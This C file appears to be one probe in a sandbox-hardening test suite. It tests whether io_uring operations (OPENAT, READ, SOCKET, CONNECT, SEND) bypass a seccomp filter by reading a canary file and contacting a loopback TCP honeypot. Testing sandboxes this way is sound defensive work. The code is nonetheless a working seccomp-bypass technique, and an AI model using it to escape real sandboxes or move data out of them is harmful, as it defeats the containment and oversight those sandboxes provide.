/* S13: io_uring as a seccomp bypass: io_uring_setup, and if it works, IORING_OP_OPENAT + READ of the canary and IORING_OP_SOCKET/CONNECT/SEND to the TCP honeypot, none of which pass through the syscall filter. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>

/* Arguments (same order in every syscall attack):
 * 1 {nonce} 2 {scratch} 3 {canary_file} 4 {tcp_port} 5 {udp_port} 6 {supervisor_pid} 7 {runner_pid} */
static const char *NONCE = "nononce", *SCRATCH = "/tmp", *CANARY = "/nonexistent";
static int TCP_PORT = 0, UDP_PORT = 0, SUPV_PID = 0, RUNNER_PID = 0;
static int n_escaped = 0, n_denied = 0;

static __attribute__((unused)) void args(int argc, char **argv)
{
    if (argc > 1) NONCE = argv[1];
    if (argc > 2) SCRATCH = argv[2];
    if (argc > 3) CANARY = argv[3];
    if (argc > 4) TCP_PORT = atoi(argv[4]);
    if (argc > 5) UDP_PORT = atoi(argv[5]);
    if (argc > 6) SUPV_PID = atoi(argv[6]);
    if (argc > 7) RUNNER_PID = atoi(argv[7]);
    setvbuf(stdout, NULL, _IOLBF, 0);
}

/* One self-report line per probe. */
static __attribute__((unused)) void report(int escaped, const char *fmt, ...)
{
    char what[400];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(what, sizeof what, fmt, ap);
    va_end(ap);
    for (char *p = what; *p; p++)
        if (*p == '\n') *p = ' ';
    printf("GAUNTLET-REPORT %s %s %s\n", NONCE, escaped ? "escaped" : "denied", what);
    fflush(stdout);
    if (escaped) n_escaped++; else n_denied++;
}

/* Raw syscall returning -errno on failure. */
static __attribute__((unused)) long rs(long nr, long a, long b, long c, long d, long e, long f)
{
    long r = syscall(nr, a, b, c, d, e, f);
    return r == -1 ? -errno : r;
}

static __attribute__((unused)) const char *en(long r)
{
    static char buf[8][64];
    static int i;
    i = (i + 1) % 8;
    if (r >= 0) snprintf(buf[i], sizeof buf[i], "ok(%ld)", r);
    else snprintf(buf[i], sizeof buf[i], "%s", strerror((int)-r));
    return buf[i];
}

/* Print a file's first bytes (the host scans stdout for the canary token). */
static __attribute__((unused)) int dump_fd(const char *label, int fd)
{
    char buf[512];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n > 0) {
        buf[n] = 0;
        printf("[%s] read %zd bytes: %s\n", label, n, buf);
        return 1;
    }
    printf("[%s] read: %s\n", label, n < 0 ? strerror(errno) : "EOF");
    return 0;
}

static __attribute__((unused)) int try_read_path(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        printf("open %s: %s\n", path, strerror(errno));
        return 0;
    }
    int got = dump_fd(path, fd);
    close(fd);
    return got;
}

/* Run fn in a forked child bounded by alarm(secs); returns the wait status (or -1). */
static __attribute__((unused)) int in_child(int (*fn)(void *), void *arg, unsigned secs)
{
    fflush(stdout);
    pid_t p = fork();
    if (p < 0) return -1;
    if (p == 0) {
        alarm(secs);
        _exit(fn(arg) & 0xff);
    }
    int st = 0;
    if (waitpid(p, &st, 0) < 0) return -1;
    return st;
}

static __attribute__((unused)) const char *wstr(int st)
{
    static char buf[4][64];
    static int i;
    i = (i + 1) % 4;
    if (st == -1) snprintf(buf[i], sizeof buf[i], "fork failed");
    else if (WIFEXITED(st)) snprintf(buf[i], sizeof buf[i], "exit %d", WEXITSTATUS(st));
    else if (WIFSIGNALED(st)) snprintf(buf[i], sizeof buf[i], "signal %d (%s)", WTERMSIG(st), strsignal(WTERMSIG(st)));
    else snprintf(buf[i], sizeof buf[i], "status 0x%x", st);
    return buf[i];
}

/* pstat-judged attacks stay alive so the host sampler sees their status, namespaces and /dev. */
static __attribute__((unused)) void linger(void)
{
    printf("done: %d escaped, %d denied; lingering for the host sampler\n", n_escaped, n_denied);
    fflush(stdout);
    usleep(400000);
}

/* A TCP connect + send to the honeypot on 127.0.0.1 (the only address these attacks ever contact). */
static __attribute__((unused)) int tcp_hit(const char *msg)
{
    if (TCP_PORT <= 0) return 0;
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0) return 0;
    struct sockaddr_in sa = {0};
    sa.sin_family = AF_INET;
    sa.sin_port = htons((unsigned short)TCP_PORT);
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int ok = connect(s, (struct sockaddr *)&sa, sizeof sa) == 0;
    if (ok && msg) { ssize_t w = write(s, msg, strlen(msg)); (void)w; }
    printf("tcp connect 127.0.0.1:%d: %s\n", TCP_PORT, ok ? "CONNECTED" : strerror(errno));
    close(s);
    return ok;
}

/* A line of /proc/self/status (e.g. "CapEff"), value copied to out. */
static __attribute__((unused)) int status_field(const char *pid, const char *key, char *out, size_t n)
{
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%s/status", pid);
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    size_t kl = strlen(key);
    int found = 0;
    while (fgets(line, sizeof line, f)) {
        if (!strncmp(line, key, kl) && line[kl] == ':') {
            char *v = line + kl + 1;
            while (*v == ' ' || *v == '\t') v++;
            v[strcspn(v, "\n")] = 0;
            size_t vl = strlen(v);
            if (vl >= n) vl = n - 1;
            memcpy(out, v, vl);
            out[vl] = 0;
            found = 1;
            break;
        }
    }
    fclose(f);
    return found;
}

static __attribute__((unused)) unsigned long long ns_ino(const char *pid, const char *ns)
{
    char p[64];
    struct stat st;
    snprintf(p, sizeof p, "/proc/%s/ns/%s", pid, ns);
    return stat(p, &st) == 0 ? (unsigned long long)st.st_ino : 0;
}
#include <sys/mman.h>
#include <sys/uio.h>
#include <linux/io_uring.h>
#ifndef __NR_io_uring_setup
#define __NR_io_uring_setup 425
#define __NR_io_uring_enter 426
#define __NR_io_uring_register 427
#endif

struct ring {
    int fd;
    unsigned *sq_head, *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
};

static int ring_init(struct ring *r, unsigned flags)
{
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    p.flags = flags;
    long fd = rs(__NR_io_uring_setup, 8, (long)&p, 0, 0, 0, 0);
    if (fd < 0) return (int)fd;
    r->fd = (int)fd;
    size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(0, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
    char *cq = mmap(0, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_CQ_RING);
    r->sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED) return -ENOMEM;
    r->sq_head = (unsigned *)(sq + p.sq_off.head);
    r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
    r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
    r->sq_array = (unsigned *)(sq + p.sq_off.array);
    r->cq_head = (unsigned *)(cq + p.cq_off.head);
    r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
    r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
    r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    return 0;
}

/* Submit one SQE and wait for its completion; returns cqe->res. */
static int ring_do(struct ring *r, struct io_uring_sqe *tmpl)
{
    unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask;
    r->sqes[idx] = *tmpl;
    r->sq_array[idx] = idx;
    __atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
    long e = rs(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
    if (e < 0) return (int)e;
    unsigned head = __atomic_load_n(r->cq_head, __ATOMIC_ACQUIRE);
    if (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE)) return -EAGAIN;
    int res = r->cqes[head & *r->cq_mask].res;
    __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
    return res;
}

static void use_ring(struct ring *r, const char *how)
{
    struct io_uring_sqe s;
    /* OPENAT the canary (no openat syscall is made: seccomp never sees it) */
    memset(&s, 0, sizeof s);
    s.opcode = IORING_OP_OPENAT;
    s.fd = AT_FDCWD;
    s.addr = (unsigned long)CANARY;
    s.open_flags = O_RDONLY;
    int fd = ring_do(r, &s);
    report(fd >= 0, "io_uring(%s) OPENAT %s -> %s", how, CANARY, en(fd));
    if (fd >= 0) {
        char buf[256] = {0};
        memset(&s, 0, sizeof s);
        s.opcode = IORING_OP_READ;
        s.fd = fd;
        s.addr = (unsigned long)buf;
        s.len = sizeof buf - 1;
        int n = ring_do(r, &s);
        printf("io_uring READ of the canary: %d bytes: %s\n", n, n > 0 ? buf : "");
    }
    /* SOCKET (5.19+) then CONNECT + SEND to the honeypot */
    memset(&s, 0, sizeof s);
    s.opcode = 45; /* IORING_OP_SOCKET */
    s.fd = AF_INET;
    s.off = SOCK_STREAM;
    int sk = ring_do(r, &s);
    printf("io_uring SOCKET: %s\n", en(sk));
    if (sk < 0) sk = socket(AF_INET, SOCK_STREAM, 0);
    if (sk >= 0) {
        struct sockaddr_in sa = {0};
        sa.sin_family = AF_INET;
        sa.sin_port = htons((unsigned short)TCP_PORT);
        sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        memset(&s, 0, sizeof s);
        s.opcode = IORING_OP_CONNECT;
        s.fd = sk;
        s.addr = (unsigned long)&sa;
        s.off = sizeof sa;
        int c = ring_do(r, &s);
        report(c == 0, "io_uring(%s) CONNECT 127.0.0.1:%d -> %s", how, TCP_PORT, en(c));
        if (c == 0) {
            char msg[128];
            snprintf(msg, sizeof msg, "gauntlet-%s io_uring connect\n", NONCE);
            memset(&s, 0, sizeof s);
            s.opcode = IORING_OP_SEND;
            s.fd = sk;
            s.addr = (unsigned long)msg;
            s.len = strlen(msg);
            printf("io_uring SEND: %s\n", en(ring_do(r, &s)));
        }
        close(sk);
    }
}

int main(int argc, char **argv)
{
    args(argc, argv);
    try_read_path("/proc/sys/kernel/io_uring_disabled");
    try_read_path("/proc/sys/kernel/io_uring_group");
    const struct { const char *n; unsigned f; } V[] = {
        {"plain", 0}, {"sqpoll", IORING_SETUP_SQPOLL}, {"iopoll", IORING_SETUP_IOPOLL},
        {"coop-taskrun", 1U << 8}, {"single-issuer", 1U << 12},
    };
    for (size_t i = 0; i < sizeof V / sizeof *V; i++) {
        struct ring r = {.fd = -1};
        int e = ring_init(&r, V[i].f);
        if (e < 0) { report(0, "io_uring_setup(%s) %s", V[i].n, en(e)); continue; }
        report(1, "io_uring_setup(%s) returned a ring", V[i].n);
        use_ring(&r, V[i].n);
        close(r.fd);
    }
    /* the other two io_uring calls, and the setup call under the x32 number */
    long e = rs(__NR_io_uring_enter, 1000, 0, 0, 0, 0, 0);
    report(e != -EPERM && e != -ENOSYS, "io_uring_enter(bad fd) %s (EBADF would mean it reached the kernel)", en(e));
    e = rs(__NR_io_uring_register, 1000, 0, 0, 0, 0, 0);
    report(e != -EPERM && e != -ENOSYS, "io_uring_register(bad fd) %s", en(e));
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    e = rs(__NR_io_uring_setup | 0x40000000, 8, (long)&p, 0, 0, 0, 0);
    report(e >= 0, "io_uring_setup(x32 number) %s", en(e));
    linger();
    return 0;
}
